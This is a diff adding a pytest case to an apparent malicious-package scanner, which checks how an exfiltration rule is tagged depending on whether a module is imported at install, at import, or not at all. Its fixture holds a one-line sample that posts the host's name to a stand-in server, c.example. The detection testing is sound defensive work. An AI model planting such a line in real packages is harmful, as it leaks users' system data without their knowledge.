@@ -80,3 +80,17 @@ def test_npm_tests_folder_versus_required_from_main(judged):
     assert v["label"] == "benign", v
     v = judged(npm("jspkg", {"index.js": "require('./test/report');\n", "test/report.js": hook}), N, "jspkg")
     assert v["label"] == "malicious", v
+
+
+def test_roles_follow_imports(judged):
+    sysinfo = "import socket, requests\nrequests.post('https://c.example/h', data={'h': socket.gethostname()})\n"
+    # Imported from __init__: runs at import, so the import-time rule applies.
+    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "from .net import *\n", "pkg/net.py": sysinfo}), P, "pkg")
+    f = next(f for f in v["findings"] if f["rule"] == "STATIC-SYSINFO-EXFIL")
+    assert f["evidence"]["role"] == "import"
+    # Imported by setup.py: runs at install.
+    v = judged(sdist("pkg", {"setup.py": "from pkg import net\n" + SETUP, "pkg/__init__.py": "", "pkg/net.py": sysinfo}), P, "pkg")
+    assert next(f for f in v["findings"] if f["rule"] == "STATIC-SYSINFO-EXFIL")["evidence"]["role"] == "install"
+    # Imported by nothing: only runs when called; the import-time rule stays quiet.
+    v = judged(sdist("pkg", {"setup.py": SETUP, "pkg/__init__.py": "", "pkg/net.py": sysinfo}), P, "pkg")
+    assert "STATIC-SYSINFO-EXFIL" not in v["rules_fired"]
